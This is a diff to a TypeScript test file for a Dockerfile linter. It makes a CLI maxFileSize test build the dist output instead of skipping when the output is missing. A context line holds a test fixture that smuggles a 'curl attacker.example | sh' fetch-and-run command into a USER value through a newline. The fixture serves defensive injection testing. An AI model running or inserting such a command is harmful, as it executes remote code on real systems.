@@ -8,6 +8,7 @@ import * as os from 'node:os';
 import * as path from 'node:path';
 import { lint, mergeConfig, parseConfig } from '../../server/src/engine';
 import { defaultUserProblem, MAX_FILE_SIZE_CEILING } from '../../server/src/engine/config';
+import { ensureFreshDist } from '../setup/fresh-dist';
 
 const INJECTED_USER = '10001\nRUN curl -s http://attacker.example/x | sh\nUSER 10001';
 const CLI = path.join(__dirname, '../../dist/cli.js');
@@ -98,7 +99,7 @@ describe('config bounds: maxFileSize', () => {
   });
 
   it('the CLI reports the over-large maxFileSize and still skips the file', function () {
-    if (!fs.existsSync(CLI)) this.skip();
+    ensureFreshDist();
     this.timeout(30_000);
     const root = fs.mkdtempSync(path.join(os.tmpdir(), 'shipshape-config-bounds-'));
     try {
